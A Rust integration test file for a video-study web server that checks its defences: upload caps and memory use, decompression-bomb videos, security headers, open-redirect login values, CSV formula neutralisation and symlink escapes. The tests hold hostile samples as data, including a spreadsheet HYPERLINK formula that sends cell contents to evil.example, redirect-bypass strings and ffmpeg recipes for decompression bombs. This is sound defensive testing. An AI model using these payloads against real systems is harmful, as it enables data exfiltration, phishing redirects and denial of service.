//! Hostile input against the real server: oversized and anonymous uploads, and the server's
//! memory while they arrive. Each test reads the server's resident memory from
//! `/proc/<pid>/status` around the attack.
use std::{
    io::{Read, Write},
    net::TcpStream,
    sync::{
        atomic::{AtomicBool, Ordering},
        Arc,
    },
    time::Duration,
};

use magictime_tests::{client, csrf, Server};
use reqwest::StatusCode;

mod support;
use support::{login, new_study, proc_kib, server_with};

const MIB: u64 = 1 << 20;

/// Samples the server's RSS every 20 ms until dropped; `peak()` is the largest seen.
struct RssWatch {
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<u64>>,
}

impl RssWatch {
    fn start(pid: u32) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let s = stop.clone();
        let thread = std::thread::spawn(move || {
            let mut peak = 0;
            while !s.load(Ordering::Relaxed) {
                peak = peak.max(proc_kib(pid, "VmRSS"));
                std::thread::sleep(Duration::from_millis(20));
            }
            peak.max(proc_kib(pid, "VmRSS"))
        });
        Self {
            stop,
            thread: Some(thread),
        }
    }

    fn peak_kib(mut self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.take().unwrap().join().unwrap()
    }
}

/// Sends `POST path` with `Content-Length: len` over a raw socket and streams `len` generated
/// bytes (one reused 64 KiB chunk: nothing is buffered here), while another thread reads the
/// answer. Stops writing when the server closes the connection. Returns the status code and
/// the bytes the server accepted before it stopped reading.
fn stream_post(
    base: &str,
    path: &str,
    headers: &[(&str, &str)],
    len: u64,
    chunked: bool,
) -> (u16, u64) {
    let addr = base.trim_start_matches("http://");
    let mut sock = TcpStream::connect(addr).unwrap();
    sock.set_write_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    let mut head = format!(
        "POST {path} HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/octet-stream\r\n"
    );
    if chunked {
        head.push_str("Transfer-Encoding: chunked\r\n");
    } else {
        head.push_str(&format!("Content-Length: {len}\r\n"));
    }
    for (k, v) in headers {
        head.push_str(&format!("{k}: {v}\r\n"));
    }
    head.push_str("\r\n");
    sock.write_all(head.as_bytes()).unwrap();
    let mut reader = sock.try_clone().unwrap();
    let answered = Arc::new(AtomicBool::new(false));
    let a2 = answered.clone();
    let read = std::thread::spawn(move || {
        let mut buf = Vec::new();
        let mut chunk = [0u8; 4096];
        loop {
            match reader.read(&mut chunk) {
                Ok(0) | Err(_) => break,
                Ok(n) => {
                    buf.extend_from_slice(&chunk[..n]);
                    if buf.windows(4).any(|w| w == b"\r\n\r\n") {
                        a2.store(true, Ordering::Relaxed);
                    }
                }
            }
        }
        buf
    });
    let chunk: Vec<u8> = (0..64 * 1024).map(|i| (i * 7 % 251) as u8).collect();
    let mut sent = 0u64;
    while sent < len {
        let n = chunk.len().min((len - sent) as usize);
        let ok = if chunked {
            sock.write_all(format!("{n:x}\r\n").as_bytes()).is_ok()
                && sock.write_all(&chunk[..n]).is_ok()
                && sock.write_all(b"\r\n").is_ok()
        } else {
            sock.write_all(&chunk[..n]).is_ok()
        };
        if !ok {
            break;
        }
        sent += n as u64;
        // Once answered, a few more MiB are enough to see that nobody is reading.
        if answered.load(Ordering::Relaxed) && sent > 64 * MIB {
            break;
        }
    }
    if chunked && sent == len {
        let _ = sock.write_all(b"0\r\n\r\n");
    }
    let _ = sock.shutdown(std::net::Shutdown::Write);
    let buf = read.join().unwrap();
    let text = String::from_utf8_lossy(&buf);
    let code = text
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or_else(|| panic!("no HTTP answer (sent {sent} bytes): {text:?}"));
    (code, sent)
}

/// Logs in without a cookie store and returns the `Cookie` header value (CSRF + session) and
/// the CSRF token, for requests sent over a raw socket. `None` logs nobody in.
async fn raw_cookies(s: &Server, who: Option<(&str, &str)>) -> (String, String) {
    let c = client();
    let mut t = csrf(&c, s).await;
    let mut cookie = format!("mt_csrf={t}");
    if let Some((email, password)) = who {
        let r = c
            .post(s.url("/api/login"))
            .header(reqwest::header::ACCEPT, "application/json")
            .form(&[
                ("csrf_token", t.as_str()),
                ("email", email),
                ("password", password),
            ])
            .send()
            .await
            .unwrap();
        assert!(r.status().is_success(), "login {email}: {}", r.status());
        // The login sets both cookies: the session and its own CSRF token.
        cookie = r
            .headers()
            .get_all(reqwest::header::SET_COOKIE)
            .iter()
            .map(|v| v.to_str().unwrap().split(';').next().unwrap())
            .collect::<Vec<_>>()
            .join("; ");
        t = magictime_tests::set_cookie(&r, "mt_csrf").expect("session CSRF token");
    }
    (cookie, t)
}

/// [`stream_post`] of `len` bytes to study `id`'s upload as `who`, on a blocking thread.
async fn upload_raw(
    s: &Server,
    id: i64,
    who: Option<(&str, &str)>,
    len: u64,
    chunked: bool,
) -> (u16, u64) {
    let (cookie, t) = raw_cookies(s, who).await;
    let base = s.base.clone();
    let path = format!("/studies/{id}/upload?condition=a&prompt=b");
    tokio::task::spawn_blocking(move || {
        stream_post(
            &base,
            &path,
            &[("Cookie", &cookie), ("x-csrf-token", &t)],
            len,
            chunked,
        )
    })
    .await
    .unwrap()
}

fn tmp_files(s: &Server) -> Vec<std::path::PathBuf> {
    match std::fs::read_dir(s.data_dir.path().join("tmp")) {
        Ok(d) => d.flatten().map(|e| e.path()).collect(),
        Err(_) => vec![],
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn uploads_are_checked_before_they_are_read_and_capped_while_streamed() {
    // 8 MiB per upload, 12 MiB per researcher.
    let s = server_with(&["--max-upload-mb", "8", "--upload-quota-mb", "12"]);
    let pid = s.child.id();
    let (c, t) = login(&s, "res@test.org", "res-pass-12").await;
    let id = new_study(&s, &c, &t, "2", &[]).await;

    // A stranger: a CSRF cookie is all it takes to get this far (any GET hands one out).
    let before = proc_kib(pid, "VmRSS");
    let watch = RssWatch::start(pid);
    let (code, sent) = upload_raw(&s, id, None, 512 * MIB, false).await;
    let peak = watch.peak_kib();
    let after = proc_kib(pid, "VmRSS");
    eprintln!(
        "anonymous 512 MiB upload: {code}, {} MiB sent before the server stopped reading, \
         RSS {before} → {after} KiB (peak {peak})",
        sent >> 20
    );
    assert_eq!(code, 401);
    assert!(
        peak.saturating_sub(before) < 50 * 1024,
        "RSS grew {} KiB",
        peak - before
    );

    // Logged in but not allowed: an annotator, and a researcher who does not own the study.
    let watch = RssWatch::start(pid);
    let ann = upload_raw(
        &s,
        id,
        Some(("ann@test.org", "ann-pass-12")),
        256 * MIB,
        false,
    )
    .await;
    let other = upload_raw(
        &s,
        id,
        Some(("other@test.org", "other-pass-12")),
        256 * MIB,
        true,
    )
    .await;
    let peak = watch.peak_kib();
    eprintln!("annotator: {ann:?}, other researcher (chunked): {other:?}, peak RSS {peak} KiB");
    assert_eq!(ann.0, 403);
    assert_eq!(other.0, 404);
    assert!(
        peak.saturating_sub(before) < 50 * 1024,
        "RSS grew {} KiB",
        peak - before
    );

    // The owner: over the cap, announced (refused up front) or chunked (cut off mid-stream).
    let owner = Some(("res@test.org", "res-pass-12"));
    let announced = upload_raw(&s, id, owner, 9 * MIB, false).await;
    assert_eq!(announced.0, 413, "{announced:?}");
    let streamed = upload_raw(&s, id, owner, 9 * MIB, true).await;
    assert_eq!(streamed.0, 413, "{streamed:?}");
    assert!(
        tmp_files(&s).is_empty(),
        "temp files left: {:?}",
        tmp_files(&s)
    );

    // The quota counts what the researcher's studies already hold.
    let media = s.data_dir.path().join("studies").join(id.to_string());
    std::fs::create_dir_all(&media).unwrap();
    std::fs::write(media.join("old.mp4"), vec![0u8; 10 * MIB as usize]).unwrap();
    let over = upload_raw(&s, id, owner, 3 * MIB, false).await;
    assert_eq!(over.0, 413, "{over:?}");
    std::fs::remove_file(media.join("old.mp4")).unwrap();

    // A real video within the limits is stored; garbage is a clear 422; no temp file stays.
    let dir = tempfile::tempdir().unwrap();
    let video = dir.path().join("v.mp4");
    let st = std::process::Command::new("ffmpeg")
        .args([
            "-y",
            "-loglevel",
            "error",
            "-f",
            "lavfi",
            "-i",
            "color=c=red:s=64x64:r=8:d=1",
        ])
        .args(["-pix_fmt", "yuv420p"])
        .arg(&video)
        .status()
        .unwrap();
    assert!(st.success());
    let up = |body: Vec<u8>| {
        c.post(s.url(&format!("/studies/{id}/upload?condition=a&prompt=red")))
            .header("x-csrf-token", &t)
            .body(body)
            .send()
    };
    let r = up(std::fs::read(&video).unwrap()).await.unwrap();
    assert_eq!(r.status(), StatusCode::OK, "{}", r.text().await.unwrap());
    let r = up(b"definitely not a video".to_vec()).await.unwrap();
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let design = support::get_json(&s, &c, &format!("/studies/{id}/design.json")).await;
    assert_eq!(design["stimuli"].as_array().unwrap().len(), 1, "{design}");
    assert!(
        tmp_files(&s).is_empty(),
        "temp files left: {:?}",
        tmp_files(&s)
    );

    // The server still serves.
    let r = client().get(s.url("/healthz")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);
}

/// Runs ffmpeg with `args` (lavfi input and output options) writing `out`.
fn ffmpeg(args: &[&str], out: &std::path::Path) {
    let st = std::process::Command::new("ffmpeg")
        .args(["-y", "-loglevel", "error"])
        .args(args)
        .arg(out)
        .status()
        .expect("ffmpeg");
    assert!(st.success(), "ffmpeg {args:?}");
}

/// Polls `/healthz` every 100 ms until `stop`; returns the slowest answer.
fn health_watch(base: String, stop: Arc<AtomicBool>) -> std::thread::JoinHandle<Duration> {
    std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        rt.block_on(async move {
            let c = client();
            let mut worst = Duration::ZERO;
            while !stop.load(Ordering::Relaxed) {
                let t0 = std::time::Instant::now();
                let r = c
                    .get(format!("{base}/healthz"))
                    .timeout(Duration::from_secs(5))
                    .send()
                    .await;
                assert!(
                    r.is_ok_and(|r| r.status() == StatusCode::OK),
                    "healthz failed"
                );
                worst = worst.max(t0.elapsed());
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
            worst
        })
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_videos_are_refused_in_a_child_and_the_server_keeps_serving() {
    let s = server_with(&["--decode-max-frames", "300", "--decode-max-seconds", "60"]);
    let pid = s.child.id();
    let (c, t) = login(&s, "res@test.org", "res-pass-12").await;
    let id = new_study(&s, &c, &t, "2", &[]).await;
    let dir = tempfile::tempdir().unwrap();
    let p = |n: &str| dir.path().join(n);
    // Decompression bombs: 30 000 frames in a few hundred KB, with the count in the header
    // (MP4) or nowhere (raw H.264: only decoding finds out); one 5000×5000 frame in 85 KB.
    let bomb = "color=c=black:s=16x16:r=1000:d=30";
    let x264 = [
        "-c:v",
        "libx264",
        "-preset",
        "ultrafast",
        "-pix_fmt",
        "yuv420p",
    ];
    ffmpeg(
        &[&["-f", "lavfi", "-i", bomb][..], &x264].concat(),
        &p("bomb.mp4"),
    );
    ffmpeg(
        &[&["-f", "lavfi", "-i", bomb][..], &x264, &["-f", "h264"]].concat(),
        &p("bomb.h264"),
    );
    ffmpeg(
        &[
            "-f",
            "lavfi",
            "-i",
            "color=c=white:s=5000x5000:r=1:d=1",
            "-frames:v",
            "1",
            "-c:v",
            "png",
        ],
        &p("huge.mkv"),
    );
    // A good clip (index at the end, no faststart), then cut in half: the index is gone.
    ffmpeg(
        &[&["-f", "lavfi", "-i", "testsrc=s=64x64:r=8:d=2"][..], &x264].concat(),
        &p("good.mp4"),
    );
    let good = std::fs::read(p("good.mp4")).unwrap();
    std::fs::write(p("truncated.mp4"), &good[..good.len() / 2]).unwrap();
    let garbage: Vec<u8> = (0..200_000u32)
        .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
        .collect();
    std::fs::write(p("garbage.mp4"), garbage).unwrap();

    let stop = Arc::new(AtomicBool::new(false));
    let health = health_watch(s.base.clone(), stop.clone());
    let mut rows = vec![];
    for (name, want) in [
        ("bomb.mp4", 422),
        ("bomb.h264", 422),
        ("huge.mkv", 422),
        ("truncated.mp4", 422),
        ("garbage.mp4", 422),
        ("good.mp4", 200),
    ] {
        let before = proc_kib(pid, "VmRSS");
        let t0 = std::time::Instant::now();
        let r = c
            .post(s.url(&format!("/studies/{id}/upload?condition=a&prompt={name}")))
            .header("x-csrf-token", &t)
            .body(std::fs::read(p(name)).unwrap())
            .send()
            .await
            .unwrap();
        let code = r.status().as_u16();
        let text = r.text().await.unwrap();
        let after = proc_kib(pid, "VmRSS");
        eprintln!(
            "| {name} | {code} {text} | {:.1} s | RSS {before} → {after} KiB |",
            t0.elapsed().as_secs_f64()
        );
        rows.push((name, code, text.clone()));
        assert_eq!(code, want, "{name}: {text}");
        assert!(
            !text.contains(s.data_dir.path().to_str().unwrap()),
            "{name}: leaks a path: {text}"
        );
        assert!(after.saturating_sub(before) < 50 * 1024, "{name}: RSS grew");
    }
    stop.store(true, Ordering::Relaxed);
    let worst = health.join().unwrap();
    eprintln!("slowest /healthz meanwhile: {worst:?}");
    assert!(worst < Duration::from_secs(1), "healthz took {worst:?}");
    assert!(rows[0].2.contains("at most 300 frames"), "{:?}", rows[0]);
    assert!(rows[1].2.contains("at most 300 frames"), "{:?}", rows[1]);
    assert!(rows[2].2.contains("larger than"), "{:?}", rows[2]);
    // Only the good clip is stored, and nothing half-written stays behind.
    let design = support::get_json(&s, &c, &format!("/studies/{id}/design.json")).await;
    assert_eq!(design["stimuli"].as_array().unwrap().len(), 1, "{design}");
    let media: Vec<_> = std::fs::read_dir(s.data_dir.path().join("studies").join(id.to_string()))
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(media.len(), 1, "{media:?}");
    assert!(
        tmp_files(&s).is_empty(),
        "temp files left: {:?}",
        tmp_files(&s)
    );
}

#[tokio::test]
async fn generation_sizes_are_bounded() {
    let s = server_with(&[]);
    let (c, t) = login(&s, "res@test.org", "res-pass-12").await;
    for size in ["4096", "0", "8", "1024"] {
        let r = magictime_tests::post_form(
            &c,
            &s,
            "/api/generate",
            &t,
            &[
                ("prompt", "ice melting"),
                ("negative", ""),
                ("seed", "1"),
                ("steps", "2"),
                ("cfg", "4"),
                ("frames", "4"),
                ("size", size),
            ],
        )
        .await;
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "size {size}");
    }
    assert!(magictime_tests::jobs_of(&c, &s, "generate")
        .await
        .is_empty());
}

#[tokio::test]
async fn pages_carry_security_headers_and_redirects_stay_on_site() {
    let s = server_with(&[]);
    let (c, t) = login(&s, "res@test.org", "res-pass-12").await;
    let id = new_study(&s, &c, &t, "2", &[]).await;
    let anon = client();
    // Pages (Leptos and plain axum), a JSON API, static files, errors, a refused POST.
    for (who, path) in [
        (&anon, "/"),
        (&anon, "/login"),
        (&c, "/studies"),
        (&c, &format!("/studies/{id}")),
        (&c, &format!("/studies/{id}/design.json")),
        (&anon, "/healthz"),
        (&anon, "/no/such/page"),
        (&anon, "/pkg/magictime.css"),
        (&anon, "/media/generated/1.mp4"),
    ] {
        let r = who.get(s.url(path)).send().await.unwrap();
        let h = r.headers();
        let csp = h
            .get("content-security-policy")
            .unwrap_or_else(|| panic!("{path} ({}): no CSP", r.status()))
            .to_str()
            .unwrap();
        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
        assert!(csp.contains("object-src 'none'"), "{path}: {csp}");
        assert_eq!(h["x-frame-options"], "DENY", "{path}");
        assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(h["referrer-policy"], "same-origin", "{path}");
    }
    let r = anon.post(s.url("/api/logout")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert_eq!(r.headers()["x-frame-options"], "DENY", "refused POST");

    // Login with a `next` that browsers would read as another site.
    for next in [
        "/\t/evil.example",
        "/\n/evil.example",
        "//evil.example",
        "/\\evil.example",
    ] {
        let c2 = client();
        let t2 = csrf(&c2, &s).await;
        // A plain form post (a browser without JavaScript): a real redirect.
        let r = c2
            .post(s.url("/api/login"))
            .header(reqwest::header::ACCEPT, "text/html")
            .form(&[
                ("csrf_token", t2.as_str()),
                ("email", "res@test.org"),
                ("password", "res-pass-12"),
                ("next", next),
            ])
            .send()
            .await
            .unwrap();
        assert!(r.status().is_redirection(), "{next:?}: {}", r.status());
        let loc = r.headers()[reqwest::header::LOCATION].to_str().unwrap();
        assert_eq!(loc, "/", "{next:?}");
    }
}

/// POSTs server function `endpoint` for a JSON answer: (status, body).
async fn api(
    c: &reqwest::Client,
    s: &Server,
    t: &str,
    endpoint: &str,
    f: &[(&str, &str)],
) -> (StatusCode, serde_json::Value) {
    let r = magictime_tests::post_form(c, s, &format!("/api/{endpoint}"), t, f).await;
    let st = r.status();
    (st, r.json().await.unwrap_or_default())
}

#[tokio::test]
async fn csv_exports_neutralise_formulas() {
    let s = server_with(&[]);
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    // An annotator's caption lands in the reviewer's spreadsheet (ChronoMagic CSV export).
    let demo = s.data_dir.path().join("datasets/demo");
    std::fs::create_dir_all(&demo).unwrap();
    let item = serde_json::json!({
        "videoid": "clip00", "file": "clips/clip00.mp4", "fps": 8.0, "frames": 64,
        "width": 256, "height": 256, "caption": "Draft: a flower blooms.",
        "provenance": {"method": "rule", "inputs": ["title"], "draft": true}, "is_transmit": 0,
        "extra": {"title": "Flower", "tags": ["flower"], "description": "d"}
    });
    std::fs::write(demo.join("one.jsonl"), format!("{item}\n")).unwrap();
    let (res, rt) = login(&s, "res@test.org", "res-pass-12").await;
    let (ann, at) = login(&s, "ann@test.org", "ann-pass-12").await;
    let (st, pid) = api(
        &res,
        &s,
        &rt,
        "annot_create",
        &[
            ("name", "Formulas"),
            ("manifest", "demo/one.jsonl"),
            ("overlap", "1"),
            ("lock_timeout_s", "600"),
            ("annotators", "ann@test.org"),
            ("reviewers", ""),
        ],
    )
    .await;
    assert_eq!(st, StatusCode::OK, "{pid}");
    let pid = pid.as_i64().unwrap().to_string();
    let (st, item_id) = api(&ann, &s, &at, "annot_next", &[("project_id", &pid)]).await;
    assert_eq!(st, StatusCode::OK);
    let item_id = item_id.as_i64().unwrap().to_string();
    let (st, v) = api(
        &ann,
        &s,
        &at,
        "annot_submit",
        &[
            ("item_id", &item_id),
            ("text", evil),
            ("flags", ""),
            ("checklist", ""),
        ],
    )
    .await;
    assert_eq!(st, StatusCode::OK, "{v}");
    let r = support::get_json(
        &s,
        &res,
        &format!("/api/annot_review_item?item_id={item_id}"),
    )
    .await;
    let version = r["versions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|v| v["kind"] == "submit")
        .unwrap()["id"]
        .to_string();
    let (st, v) = api(
        &res,
        &s,
        &rt,
        "annot_review",
        &[
            ("item_id", &item_id),
            ("action", "accept"),
            ("version_id", &version),
        ],
    )
    .await;
    assert_eq!(st, StatusCode::OK, "{v}");
    let csv = support::get_text(&s, &res, &format!("/annotate/export/{pid}/chronomagic.csv")).await;
    let row = csv.lines().nth(1).unwrap();
    assert!(
        row.starts_with("clip00,\"'=HYPERLINK("),
        "the formula is not neutralised: {row}"
    );
}

#[tokio::test]
async fn symbolic_links_out_of_the_data_dir_are_refused() {
    let s = server_with(&[]);
    std::os::unix::fs::symlink("/etc", s.data_dir.path().join("escape")).unwrap();
    let (c, t) = login(&s, "res@test.org", "res-pass-12").await;
    for (path, fields) in [
        (
            "/api/queue_eval",
            vec![
                ("real", "escape"),
                ("fake", "escape"),
                ("metrics", "fvd"),
                ("n", "2"),
            ],
        ),
        (
            "/api/queue_ingest",
            vec![
                ("source", "split"),
                ("folder", "escape"),
                ("min_frames", "8"),
                ("count", "1"),
                ("size", "64"),
                ("frames", "8"),
                ("seed", "0"),
                ("kind", "both"),
            ],
        ),
    ] {
        let r = magictime_tests::post_form(&c, &s, path, &t, &fields).await;
        let code = r.status();
        let body = r.text().await.unwrap();
        assert_eq!(code, StatusCode::UNPROCESSABLE_ENTITY, "{path}: {body}");
        assert!(body.contains("outside"), "{path}: {body}");
    }
    // Study imports resolve links too, and never read the server's own folders.
    let id = new_study(&s, &c, &t, "2", &[]).await;
    let other = new_study(&s, &c, &t, "2", &[]).await;
    let own = s.data_dir.path().join("studies").join(other.to_string());
    std::fs::create_dir_all(&own).unwrap();
    for p in [s.data_dir.path().join("escape"), own] {
        let r = support::form(
            &c,
            &s,
            &t,
            &format!("/studies/{id}/import"),
            &[("path", p.to_str().unwrap())],
        )
        .await;
        assert_eq!(r.status(), StatusCode::FORBIDDEN, "{}", p.display());
    }
}
